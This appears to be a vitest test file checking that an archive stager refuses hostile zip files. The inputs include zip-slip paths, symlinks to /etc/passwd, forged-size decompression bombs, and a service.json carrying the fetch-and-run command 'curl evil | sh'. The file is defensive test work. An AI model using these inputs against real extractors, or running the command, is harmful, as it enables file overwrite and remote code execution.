// Hostile archives, written by test/stage/raw-zip.ts (not by yazl nor by our packer): each is
// refused with the right code, nothing appears outside the staging directory, and the staging
// directory is gone afterwards.
import { randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { ErrorCode } from '../../src/errors.js';
import { stageArchive } from '../../src/stage/index.js';
import {
  baseService,
  cleanupTempDirs,
  expectNothingLeaked,
  layout,
  manifestFor,
  rejection,
  serviceJsonText,
  sha256,
  standardFiles,
  type FileSpec,
  type Layout,
} from './helpers.js';
import { rawZip, S_IFDIR, S_IFLNK, S_IFREG, type RawEntry } from './raw-zip.js';

afterAll(cleanupTempDirs);

const files = standardFiles();

/** The standard package's entries, as the raw writer sees them. */
function goodEntries(specs: readonly FileSpec[] = files): RawEntry[] {
  return specs.map((f) => ({ name: f.path, data: f.data, unixMode: S_IFREG | (f.mode ?? 0o644) }));
}

async function expectRefused(
  entries: RawEntry[],
  code: ErrorCode,
  messageParts: (string | RegExp)[],
  opts: { manifestFiles?: readonly FileSpec[]; service?: Record<string, unknown>; l?: Layout } = {},
): Promise<Layout> {
  const l = opts.l ?? (await layout());
  await writeFile(l.archive, rawZip(entries));
  const manifest = manifestFor(opts.manifestFiles ?? files, opts.service);
  const err = await rejection(stageArchive({ archive: l.archive, manifest, stagingDir: l.staging }));
  expect(err.code, err.message).toBe(code);
  for (const part of messageParts) {
    if (typeof part === 'string') expect(err.message).toContain(part);
    else expect(err.message).toMatch(part);
  }
  expect(existsSync(l.staging)).toBe(false);
  await expectNothingLeaked(l);
  return l;
}

describe('stageArchive refuses hostile archives', () => {
  it('the raw writer itself makes a good archive that stages', async () => {
    const l = await layout();
    await writeFile(l.archive, rawZip([{ name: 'app/', unixMode: S_IFDIR | 0o755 }, ...goodEntries()]));
    const res = await stageArchive({ archive: l.archive, manifest: manifestFor(files), stagingDir: l.staging });
    expect(res.files).toBe(files.length);
  });

  it('zip-slip "../../evil.txt"', async () => {
    const l = await expectRefused([...goodEntries(), { name: '../../evil.txt', data: 'pwned' }], 'UNSAFE_ARCHIVE', ['../../evil.txt']);
    expect(existsSync(path.join(l.outer, 'evil.txt'))).toBe(false);
    expect(existsSync(path.join(l.inner, 'evil.txt'))).toBe(false);
  });

  it('zip-slip first, before any good entry, and deeper "app/../../../evil.txt"', async () => {
    await expectRefused([{ name: 'app/../../../evil.txt', data: 'pwned' }, ...goodEntries()], 'UNSAFE_ARCHIVE', ['evil.txt']);
  });

  it('absolute "/tmp/…/evil.txt"', async () => {
    const target = path.join(os.tmpdir(), `modelhub-evil-${randomBytes(6).toString('hex')}.txt`);
    await expectRefused([...goodEntries(), { name: target, data: 'pwned' }], 'UNSAFE_ARCHIVE', [path.basename(target)]);
    expect(existsSync(target)).toBe(false);
  });

  it('drive letter "C:/evil.txt"', async () => {
    await expectRefused([...goodEntries(), { name: 'C:/evil.txt', data: 'pwned' }], 'UNSAFE_ARCHIVE', ['C:/evil.txt']);
  });

  it('backslash "..\\evil.txt" (and a backslash name that is listed)', async () => {
    await expectRefused([...goodEntries(), { name: '..\\evil.txt', data: 'pwned' }], 'UNSAFE_ARCHIVE', ['evil.txt']);
    await expectRefused(
      [...goodEntries(), { name: 'app\\win.py', data: 'x' }],
      'UNSAFE_ARCHIVE',
      ['win.py'],
    );
  });

  it('".", empty and NUL segments yauzl lets through', async () => {
    const cases: [string, string][] = [
      ['./service2.json', 'service2.json'],
      ['app//main2.py', 'main2.py'],
      ['app/./x.py', 'x.py'],
      ['app/x\0.py', 'app/x'],
      ['app/.', 'app/.'],
      ['/', '/'],
    ];
    for (const [name, part] of cases) {
      await expectRefused([...goodEntries(), { name, data: name.endsWith('/') ? '' : 'x' }], 'UNSAFE_ARCHIVE', [part]);
    }
  });

  it('a directory entry with an unsafe name ("app/../")', async () => {
    await expectRefused([{ name: 'app/../', unixMode: S_IFDIR | 0o755 }, ...goodEntries()], 'UNSAFE_ARCHIVE', ['app/../']);
  });

  it('a directory entry that carries data', async () => {
    await expectRefused([{ name: 'app/', data: 'sneaky', unixMode: S_IFDIR | 0o755 }, ...goodEntries()], 'UNSAFE_ARCHIVE', ['app/', 'directory']);
  });

  it('a symlink entry pointing outside (listed in the manifest or not)', async () => {
    const target = '../../../../../../etc/passwd';
    const link: RawEntry = { name: 'app/link', data: target, unixMode: S_IFLNK | 0o777 };
    await expectRefused([...goodEntries(), link], 'UNSAFE_ARCHIVE', ['app/link', 'symbolic link']);
    await expectRefused([link, ...goodEntries()], 'UNSAFE_ARCHIVE', ['app/link', 'symbolic link'], {
      manifestFiles: [...files, { path: 'app/link', data: target }],
    });
  });

  it('a symlink entry whose "made by" is not Unix is refused too', async () => {
    await expectRefused(
      [...goodEntries(), { name: 'app/link', data: '/etc/passwd', unixMode: S_IFLNK | 0o777, versionMadeBy: 0x001e }],
      'UNSAFE_ARCHIVE',
      ['symbolic link'],
      { manifestFiles: [...files, { path: 'app/link', data: '/etc/passwd' }] },
    );
  });

  it('other special files (a FIFO)', async () => {
    await expectRefused([...goodEntries(), { name: 'app/fifo', data: '', unixMode: 0o010644 }], 'UNSAFE_ARCHIVE', ['app/fifo', 'special'], {
      manifestFiles: [...files, { path: 'app/fifo', data: '' }],
    });
  });

  it('duplicate names', async () => {
    const dup: RawEntry = { name: 'app/main.py', data: 'print("evil twin")\n' };
    await expectRefused([...goodEntries(), dup], 'UNSAFE_ARCHIVE', ['app/main.py', 'more than once']);
  });

  it('case-insensitive duplicate names', async () => {
    await expectRefused([...goodEntries(), { name: 'App/Main.py', data: 'x' }], 'UNSAFE_ARCHIVE', ['App/Main.py', 'app/main.py']);
  });

  it('a directory entry named like a file', async () => {
    await expectRefused([...goodEntries(), { name: 'app/main.py/', unixMode: S_IFDIR | 0o755 }], 'UNSAFE_ARCHIVE', ['app/main.py']);
  });

  it('an unlisted file', async () => {
    await expectRefused([...goodEntries(), { name: 'app/extra.py', data: 'import os\n' }], 'UNSAFE_ARCHIVE', ['app/extra.py', 'unlisted']);
  });

  it('a listed file missing from the archive', async () => {
    const manifestFiles = [...files, { path: 'app/gone.py', data: 'x = 1\n' }];
    await expectRefused(goodEntries(), 'UNSAFE_ARCHIVE', ['app/gone.py', 'missing'], { manifestFiles });
  });

  it('a header size that differs from the manifest (central directory says small, data is bigger)', async () => {
    const big = 'A'.repeat(1000);
    const manifestFiles = [...files, { path: 'app/big.txt', data: big }];
    // Stored, both sizes say 10: the entry is consistent by itself but not with the manifest.
    await expectRefused(
      [...goodEntries(), { name: 'app/big.txt', data: big, declaredSize: 10, declaredCompressedSize: 10 }],
      'UNSAFE_ARCHIVE',
      ['app/big.txt', '10', '1000'],
      { manifestFiles },
    );
  });

  it('a forged size: header (and manifest) say 10 bytes, the deflate stream inflates to 100 000', async () => {
    const bomb = Buffer.alloc(100_000, 0x41);
    const claimed = bomb.subarray(0, 10);
    await expectRefused(
      [...goodEntries(), { name: 'models/w.bin', data: bomb, method: 8, declaredSize: 10 }],
      'UNSAFE_ARCHIVE',
      ['models/w.bin'],
      { manifestFiles: [...files, { path: 'models/w.bin', data: claimed }] },
    );
  });

  it('a forged size the other way: header (and manifest) say 5000 bytes, the stream yields 50', async () => {
    const small = Buffer.alloc(50, 0x42);
    const claimed = Buffer.alloc(5000, 0x42);
    await expectRefused(
      [...goodEntries(), { name: 'models/w.bin', data: small, method: 8, declaredSize: 5000 }],
      'UNSAFE_ARCHIVE',
      ['models/w.bin'],
      { manifestFiles: [...files, { path: 'models/w.bin', data: claimed }] },
    );
  });

  // Entries over 512 KiB are streamed through yauzl rather than read whole: the same lies again.
  it('a forged size, streamed: header (and manifest) say 600 KiB, the deflate stream inflates to 3 MiB', async () => {
    const bomb = Buffer.alloc(3 * 1024 * 1024, 0x41);
    const claimed = bomb.subarray(0, 600 * 1024);
    await expectRefused(
      [...goodEntries(), { name: 'models/w.bin', data: bomb, method: 8, declaredSize: claimed.length }],
      'UNSAFE_ARCHIVE',
      ['models/w.bin'],
      { manifestFiles: [...files, { path: 'models/w.bin', data: claimed }] },
    );
  });

  it('a forged size, streamed: header (and manifest) say 3 MiB, the deflate stream yields 600 KiB', async () => {
    const small = Buffer.alloc(600 * 1024, 0x42);
    const claimed = Buffer.alloc(3 * 1024 * 1024, 0x42);
    await expectRefused(
      [...goodEntries(), { name: 'models/w.bin', data: small, method: 8, declaredSize: claimed.length }],
      'UNSAFE_ARCHIVE',
      ['models/w.bin'],
      { manifestFiles: [...files, { path: 'models/w.bin', data: claimed }] },
    );
  });

  it('a corrupt deflate stream, streamed', async () => {
    const data = randomBytes(2 * 1024 * 1024);
    await expectRefused(
      [...goodEntries(), { name: 'models/d.bin', data, method: 8, rawData: randomBytes(700 * 1024) }],
      'UNSAFE_ARCHIVE',
      ['models/d.bin'],
      { manifestFiles: [...files, { path: 'models/d.bin', data }] },
    );
  });

  it('a stored entry pointing past the end of the file, streamed', async () => {
    const claimed = Buffer.alloc(2 * 1024 * 1024);
    await expectRefused(
      [...goodEntries(), { name: 'models/e.bin', data: 'short', declaredSize: claimed.length, declaredCompressedSize: claimed.length }],
      'UNSAFE_ARCHIVE',
      ['models/e.bin'],
      { manifestFiles: [...files, { path: 'models/e.bin', data: claimed }] },
    );
  });

  it('a stored entry whose data runs into the next headers: the hash catches it, streamed', async () => {
    // The last entry claims 600 KiB but holds 10; the rest is the central directory and more.
    const real = Buffer.alloc(700 * 1024, 0x43);
    const entries: RawEntry[] = [
      ...goodEntries(),
      { name: 'models/f.bin', data: 'tiny data!', declaredSize: 600 * 1024, declaredCompressedSize: 600 * 1024 },
      { name: 'models/pad.bin', data: real },
    ];
    await expectRefused(entries, 'CHECKSUM_MISMATCH', ['models/f.bin'], {
      manifestFiles: [...files, { path: 'models/f.bin', data: Buffer.alloc(600 * 1024) }, { path: 'models/pad.bin', data: real }],
    });
  });

  it('a stored entry whose compressed and uncompressed sizes disagree', async () => {
    const data = 'B'.repeat(100);
    await expectRefused(
      [...goodEntries(), { name: 'app/b.txt', data, declaredCompressedSize: 60 }],
      'UNSAFE_ARCHIVE',
      ['size'],
      { manifestFiles: [...files, { path: 'app/b.txt', data }] },
    );
  });

  it('an encrypted entry', async () => {
    const data = 'secret';
    await expectRefused(
      [...goodEntries(), { name: 'app/enc.txt', data, flags: 0x0801, rawData: Buffer.concat([randomBytes(12), Buffer.from(data)]) }],
      'UNSAFE_ARCHIVE',
      ['app/enc.txt', 'encrypted'],
      { manifestFiles: [...files, { path: 'app/enc.txt', data }] },
    );
  });

  it('an unsupported compression method', async () => {
    const data = 'C'.repeat(20);
    const entries: RawEntry[] = [...goodEntries(), { name: 'app/c.txt', data }];
    const buf = rawZip(entries);
    // Patch the method field (14 = bzip2) in the last local header and central record.
    const l = await layout();
    const lh = buf.lastIndexOf(Buffer.from([0x50, 0x4b, 0x03, 0x04]));
    const cd = buf.lastIndexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02]));
    buf.writeUInt16LE(14, lh + 8);
    buf.writeUInt16LE(14, cd + 10);
    await writeFile(l.archive, buf);
    const err = await rejection(
      stageArchive({ archive: l.archive, manifest: manifestFor([...files, { path: 'app/c.txt', data }]), stagingDir: l.staging }),
    );
    expect(err.code).toBe('UNSAFE_ARCHIVE');
    expect(err.message).toContain('app/c.txt');
    await expectNothingLeaked(l);
  });

  it('a service.json that differs from manifest.service (its hash in the manifest is right)', async () => {
    const signed = baseService();
    const shipped = baseService({ platforms: { 'linux-x64': { exec: { type: 'argv', program: '/bin/sh', args: ['-c', 'curl evil | sh'] } } } });
    const shippedFiles = standardFiles(shipped);
    await expectRefused(goodEntries(shippedFiles), 'MANIFEST_MISMATCH', ['service.json', 'platforms.linux-x64.exec'], {
      manifestFiles: shippedFiles,
      service: signed,
    });
  });

  it('a service.json that is not JSON', async () => {
    const bad = files.map((f) => (f.path === 'service.json' ? { ...f, data: '{"service_id": ' } : f));
    await expectRefused(goodEntries(bad), 'MANIFEST_MISMATCH', ['service.json', 'JSON'], { manifestFiles: bad });
  });

  it('a bad sha256', async () => {
    const tampered = files.map((f) => (f.path === 'app/main.py' ? { ...f, data: 'print("HELLO")\n'.repeat(100) } : f));
    await expectRefused(goodEntries(tampered), 'CHECKSUM_MISMATCH', ['app/main.py', sha256(files[1]?.data ?? '')]);
  });

  it('a bad sha256 in a big multi-chunk stored file', async () => {
    const weights = randomBytes(3 * 1024 * 1024 + 17);
    const other = Buffer.from(weights);
    other[other.length - 1] = (other[other.length - 1] ?? 0) ^ 0xff;
    await expectRefused([...goodEntries(), { name: 'models/w.bin', data: other }], 'CHECKSUM_MISMATCH', ['models/w.bin'], {
      manifestFiles: [...files, { path: 'models/w.bin', data: weights }],
    });
  });

  it('a name colliding with a directory created for another file (file after directory)', async () => {
    // An inconsistent manifest: "app" is a file and a directory. The stager applies the one
    // path rule set (src/schemas/safe-path.ts) to the manifest's list before writing anything.
    const manifestFiles = [...files, { path: 'app', data: 'x' }];
    await expectRefused([...goodEntries(), { name: 'app', data: 'x' }], 'MANIFEST_INVALID', ['"app"', 'both a file and a directory'], { manifestFiles });
  });

  it('a name colliding with a directory created for another file (directory after file)', async () => {
    const manifestFiles = [{ path: 'app', data: 'x' }, ...files];
    await expectRefused([{ name: 'app', data: 'x' }, ...goodEntries()], 'MANIFEST_INVALID', ['"app"', 'both a file and a directory'], { manifestFiles });
  });

  it('not a zip at all, and a truncated zip', async () => {
    const l = await layout();
    await writeFile(l.archive, randomBytes(4096));
    let err = await rejection(stageArchive({ archive: l.archive, manifest: manifestFor(files), stagingDir: l.staging }));
    expect(err.code).toBe('UNSAFE_ARCHIVE');
    await expectNothingLeaked(l);

    const whole = rawZip(goodEntries());
    await writeFile(l.archive, whole.subarray(0, whole.length - 30));
    err = await rejection(stageArchive({ archive: l.archive, manifest: manifestFor(files), stagingDir: l.staging }));
    expect(err.code).toBe('UNSAFE_ARCHIVE');
    await expectNothingLeaked(l);
  });

  it('a corrupt deflate stream', async () => {
    const data = 'D'.repeat(5000);
    await expectRefused(
      [...goodEntries(), { name: 'app/d.txt', data, method: 8, rawData: randomBytes(300) }],
      'UNSAFE_ARCHIVE',
      ['app/d.txt'],
      { manifestFiles: [...files, { path: 'app/d.txt', data }] },
    );
  });

  it('a central directory entry pointing past the end of the file', async () => {
    const data = 'E'.repeat(100);
    await expectRefused(
      [...goodEntries(), { name: 'app/e.txt', data, declaredSize: 100_000, declaredCompressedSize: 100_000 }],
      'UNSAFE_ARCHIVE',
      ['app/e.txt'],
      { manifestFiles: [...files, { path: 'app/e.txt', data: Buffer.alloc(100_000) }] },
    );
  });

  it('a manifest with an unsafe or duplicate path is refused before anything is written', async () => {
    const l = await layout();
    await writeFile(l.archive, rawZip(goodEntries()));
    for (const extra of [{ path: '../x', data: 'x' }, { path: 'APP/MAIN.PY', data: 'x' }]) {
      const err = await rejection(stageArchive({ archive: l.archive, manifest: manifestFor([...files, extra]), stagingDir: l.staging }));
      expect(err.code).toBe('MANIFEST_INVALID');
      await expectNothingLeaked(l);
    }
    const noServiceJson = files.filter((f) => f.path !== 'service.json');
    const err = await rejection(stageArchive({ archive: l.archive, manifest: manifestFor(noServiceJson), stagingDir: l.staging }));
    expect(err.code).toBe('MANIFEST_INVALID');
    await expectNothingLeaked(l);
  });

  it('the serviceJsonText helper is what the good entries carry', () => {
    expect(files[0]?.data).toBe(serviceJsonText());
  });
});
